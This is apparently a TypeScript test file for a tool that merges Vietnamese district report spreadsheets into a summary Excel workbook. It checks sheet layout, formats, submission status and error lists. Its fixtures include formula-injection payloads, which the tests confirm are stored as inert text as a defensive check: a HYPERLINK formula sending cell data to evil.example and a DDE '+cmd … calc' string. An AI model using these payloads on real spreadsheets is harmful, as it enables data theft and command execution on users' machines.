import { consolidate, summaryWorkbook } from "../../../src/core/consolidate";
import type { CellModel, SheetModel } from "../../../src/core/sheet";
import { book, form, notAReport, single, smallPlan, unreadable } from "./factory";
import { defaultPlan } from "../../../src/core/plan";
import { isoDateToExcelSerial } from "../../../src/core/time";

const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';

const summary = consolidate(smallPlan, "2024-Y", "2024-12-20", [
  single(form("X_A", { TT01: 10, BL02: 10, BL03: 9, KP01: 1.5, TH01: "Có", NX01: HOSTILE, NX02: "+cmd|' /C calc'!A0" }, { reportDate: "2024-12-10" })),
  single(form("X_B", { TT01: 20, BL02: 90, BL03: 45, TH01: "Không" }, { reportDate: "2024-12-13" })),
  single(form("X_C", { TT01: 5 }, { errors: 1 })),
  single(form("P_LD", { TT01: 2, BL02: 150, BL03: 50, CL02: 7 }, { file: "=cu.xlsx", reportDate: "2024-12-01" })),
  single(form("P_LD", { TT01: 1, BL02: 150, BL03: 50, CL02: 7 }, { file: "p-ld.xlsx", reportDate: "2024-12-02" })),
  book([form("X_Z", { TT01: 1 }, { file: "la.xlsx#Sheet1" })], "la.xlsx"),
  unreadable("@hong.xlsx"),
  notAReport("bang-luong.xlsx"),
]);
const workbook = summaryWorkbook(smallPlan, summary);

function sheet(name: string): SheetModel {
  const s = workbook.sheets.find((x) => x.name === name);
  if (!s) throw new Error(`no sheet ${name}`);
  return s;
}

function at(s: SheetModel, row: number, col: number): CellModel | undefined {
  return s.cells.find((c) => c.row === row && c.col === col);
}

/** The row whose column `col` holds `value`, as a list of values by column. */
function rowWhere(s: SheetModel, col: number, value: unknown): (CellModel["value"] | undefined)[] {
  const hit = s.cells.find((c) => c.col === col && c.value === value);
  if (!hit) throw new Error(`no row with ${String(value)} in ${s.name}`);
  const cells = s.cells.filter((c) => c.row === hit.row);
  const width = Math.max(...cells.map((c) => c.col)) + 1;
  return Array.from({ length: width }, (_, i) => cells.find((c) => c.col === i)?.value);
}

describe("summaryWorkbook", () => {
  it("has the six visible sheets in order, landscape, with frozen header rows, then its very hidden _meta", () => {
    expect(workbook.sheets.map((s) => s.name)).toEqual(["TongHop", "TinhHinhNop", "MaTran", "LoiKiemTra", "NhanXet", "TepKhongDung", "_data", "_meta"]);
    expect(workbook.sheets.slice(6).map((s) => s.visibility)).toEqual(["hidden", "veryHidden"]);
    for (const s of workbook.sheets.slice(0, 6)) {
      expect(s.landscape).toBe(true);
      expect(s.freezeRows).toBeGreaterThan(0);
      expect(s.visibility).toBe("visible");
    }
  });

  it("holds no formula anywhere", () => {
    const formulas = workbook.sheets.flatMap((s) => s.cells.filter((c) => c.formula !== undefined).map((c) => `${s.name}!${c.row},${c.col}`));
    expect(formulas).toEqual([]);
  });

  it.each([
    ["a narrative that looks like a formula", "NhanXet", HOSTILE],
    ["a narrative that starts with +", "NhanXet", "+cmd|' /C calc'!A0"],
    ["a file name that starts with =", "TepKhongDung", "=cu.xlsx"],
    ["a file name that starts with @", "TepKhongDung", "@hong.xlsx"],
  ])("puts %s in value, verbatim", (_name, sheetName, text) => {
    const cell = sheet(sheetName).cells.find((c) => c.value === text);
    expect(cell).toBeDefined();
    expect(cell!.formula).toBeUndefined();
  });

  it("every style a cell names exists on its sheet", () => {
    for (const s of workbook.sheets) {
      const missing = s.cells.filter((c) => c.style !== undefined && !(c.style in s.styles)).map((c) => c.style);
      expect([s.name, missing]).toEqual([s.name, []]);
    }
  });

  it("TongHop: title, period line with dd/mm/yyyy dates, as-of date, rates as numbers", () => {
    const s = sheet("TongHop");
    const texts = s.cells.map((c) => c.value).filter((v): v is string => typeof v === "string");
    expect(texts).toContain("UBND HUYỆN THỬ");
    expect(texts).toContain("Kỳ báo cáo: Năm 2024 (từ 15/12/2023 đến 14/12/2024); hạn nộp: 10/12/2024");
    expect(texts).toContain("Số liệu tính đến ngày: 20/12/2024");
    // required: X_A on time, X_B late, X_C invalid, P_LD on time, P_YT missing → 3/5 valid, 2/5 on time
    expect(rowWhere(s, 2, "Tỷ lệ đơn vị nộp báo cáo hợp lệ (%)")[3]).toBe(60);
    expect(rowWhere(s, 2, "Tỷ lệ đơn vị nộp đúng hạn (%)")[3]).toBe(40);
  });

  it.each([
    ["a sum", "TT01", ["1", "TT01", "Số buổi tuyên truyền", "buổi", 31, null, null, null, null, 3], "#,##0"],
    ["a ratio with its target", "TL_BL03", ["4", "TL_BL03", "Tỷ lệ nạn nhân được hỗ trợ", "%", 54, "≥ 80", "Chưa đạt", null, null, 2], "#,##0.0"],
    ["a communes-only row with its cross-check", "BL02", ["2", "BL02", "Số nạn nhân", "người", 100, null, null, 150, 100 / 3, 2], "#,##0"],
    ["a row nobody reported", "CL04", ["7", "CL04", "Số trẻ sinh ra sống", "trẻ", "—", null, null, null, null, 0], undefined],
  ])("TongHop row: %s", (_name, code, values, numFmt) => {
    const s = sheet("TongHop");
    const expected = values.map((v) => (typeof v === "number" && !Number.isInteger(v) ? expect.closeTo(v, 10) : v));
    expect(rowWhere(s, 1, code)).toEqual(expected);
    const r = s.cells.find((c) => c.col === 1 && c.value === code)!.row;
    const valueCell = at(s, r, 4)!;
    expect(s.styles[valueCell.style!].numFmt).toBe(numFmt);
  });

  it("TongHop flags a cross-check above the tolerance in its own style", () => {
    const s = sheet("TongHop");
    const r = s.cells.find((x) => x.col === 1 && x.value === "BL02")!.row;
    expect(s.styles[at(s, r, 8)!.style!].color).toBe("9C0006");
  });

  // Dates are real date cells, shown dd/mm/yyyy (docs/contract.md §4.4 "Printing").
  it.each([
    ["X_A", "Đúng hạn", "2024-12-10", "Ngày báo cáo ghi trên biểu"],
    ["X_B", "Trễ 3 ngày", "2024-12-13", "Ngày báo cáo ghi trên biểu"],
    ["X_C", "Không hợp lệ", "2024-12-09", "Ngày báo cáo ghi trên biểu"],
    ["P_YT", "Chưa nộp", null, null],
    ["MTTQ", "Chưa nhận (không bắt buộc)", null, null],
  ])("TinhHinhNop: %s is %s", (unit, label, date, source) => {
    const s = sheet("TinhHinhNop");
    const row = rowWhere(s, 1, unit);
    expect([row[4], row[5], row[6]]).toEqual([label, date === null ? null : isoDateToExcelSerial(date), source]);
    const dateCell = s.cells.find((c) => c.row === s.cells.find((x) => x.col === 1 && x.value === unit)!.row && c.col === 5)!;
    if (date !== null) expect(s.styles[dateCell.style!].numFmt).toBe("dd/mm/yyyy");
    const statusCell = s.cells.find((c) => c.col === 4 && c.value === label)!;
    expect(s.styles[statusCell.style!].fill).toMatch(/^[0-9A-F]{6}$/);
  });

  it("TinhHinhNop colours each status differently", () => {
    const s = sheet("TinhHinhNop");
    const fills = new Set(s.cells.filter((c) => c.col === 4 && c.row > 2).map((c) => s.styles[c.style!].fill));
    // on time (X_A, P_LD), late, invalid, missing, optional not received
    expect(fills.size).toBe(5);
  });

  it("MaTran: a unit's figure sits under its name; units with nothing counted stay blank", () => {
    const s = sheet("MaTran");
    const header = rowWhere(s, 0, "Mã");
    const row = rowWhere(s, 0, "TT01");
    expect(row[header.indexOf("Xã B")]).toBe(20);
    expect(row[header.indexOf("Xã C")]).toBeNull(); // invalid, not counted
    expect(row[header.indexOf("Tổng hợp")]).toBe(31);
  });

  it("LoiKiemTra lists issues by unit in roster order, with Vietnamese messages, cross-checks last", () => {
    const s = sheet("LoiKiemTra");
    const units = s.cells.filter((c) => c.col === 1 && c.row > 2).map((c) => c.value);
    expect(units).toEqual(["Xã C", "Phòng Lao động", "(không xác định)", "(không xác định)", "Tổng hợp huyện"]);
    const messages = s.cells.filter((c) => c.col === 6 && c.row > 2).map((c) => c.value);
    expect(messages[0]).toMatch(/số âm/);
    expect(messages[1]).toMatch(/bản mới hơn \(p-ld\.xlsx\)/);
    expect(messages[4]).toMatch(/vượt ngưỡng 10 %/);
    expect(s.cells.filter((c) => c.col === 3 && c.row > 2).map((c) => c.value)).toEqual(["Lỗi", "Cảnh báo", "Lỗi", "Lỗi", "Cảnh báo"]);
  });

  it("TepKhongDung lists every unused file with its reason", () => {
    const s = sheet("TepKhongDung");
    const files = s.cells.filter((c) => c.col === 1 && c.row > 2).map((c) => c.value);
    expect(files).toEqual(["=cu.xlsx", "@hong.xlsx", "X_C.xlsx", "bang-luong.xlsx", "la.xlsx#Sheet1"]);
    expect(rowWhere(s, 1, "=cu.xlsx")[2]).toBe("Không dùng, đơn vị có bản khác được dùng");
  });
});

describe("TongHop on the built-in plan", () => {
  const s = summaryWorkbook(defaultPlan, consolidate(defaultPlan, "2024-Y", "2024-12-12", [])).sheets[0];
  const rowOf = (code: string) => s.cells.find((c) => c.col === 1 && c.value === code)!.row;
  const cell = (code: string, col: number) => s.cells.find((c) => c.row === rowOf(code) && c.col === col);

  it.each([
    ["TT02.NU", "Trong đó: Nữ", "child"],
    ["BL02.TE", "Trong đó: Trẻ em dưới 16 tuổi", "child"],
    ["TT02", "Số lượt người tham dự tuyên truyền", "text"],
  ])("%s keeps the plan's label once (%s)", (code, label, style) => {
    expect(cell(code, 2)?.value).toBe(label);
    expect(cell(code, 2)?.style).toBe(style);
  });

  it("a yes/no row is totalled in % of units, not in Có/Không", () => {
    expect(cell("TH01", 3)?.value).toBe("% đơn vị");
  });

  it("a long wrapped label gets a taller row", () => {
    const long = rowOf("TT01"); // "Số buổi tuyên truyền, truyền thông về bình đẳng giới, phòng, chống bạo lực gia đình, …"
    expect(s.rowHeights?.[long]).toBeGreaterThanOrEqual(30);
  });
});

describe("summaryWorkbook: alerts and files that are not spreadsheets (docs/contract.md §4.1)", () => {
  const tied = consolidate(smallPlan, "2024-Y", "2024-12-20", [
    single(form("X_A", { TT01: 1 }, { file: "a.xlsx", fileTime: "2024-12-09T08:00:00+07:00" })),
    single(form("X_A", { TT01: 2 }, { file: "a (1).xlsx", fileTime: "2024-12-09T10:00:00+07:00" })),
  ], { ignored: ["scan.pdf"] });
  const model = summaryWorkbook(smallPlan, tied);
  const sheetOf = (name: string) => model.sheets.find((s) => s.name === name)!;

  it("TinhHinhNop shows each unit's alerts beside its status", () => {
    const s = sheetOf("TinhHinhNop");
    const header = s.cells.find((c) => c.value === "Cần lưu ý")!;
    const row = s.cells.find((c) => c.col === 1 && c.value === "X_A")!.row;
    expect(s.cells.find((c) => c.row === row && c.col === header.col)?.value).toMatch(/2 bản số liệu khác nhau cùng ngày nộp 09\/12\/2024: “a \(1\)\.xlsx”, “a\.xlsx”/);
  });

  it("TepKhongDung lists the ignored files too", () => {
    const s = sheetOf("TepKhongDung");
    const row = s.cells.find((c) => c.col === 1 && c.value === "scan.pdf")!.row;
    expect(s.cells.find((c) => c.row === row && c.col === 2)?.value).toBe("Bỏ qua (không phải bảng tính)");
  });
});
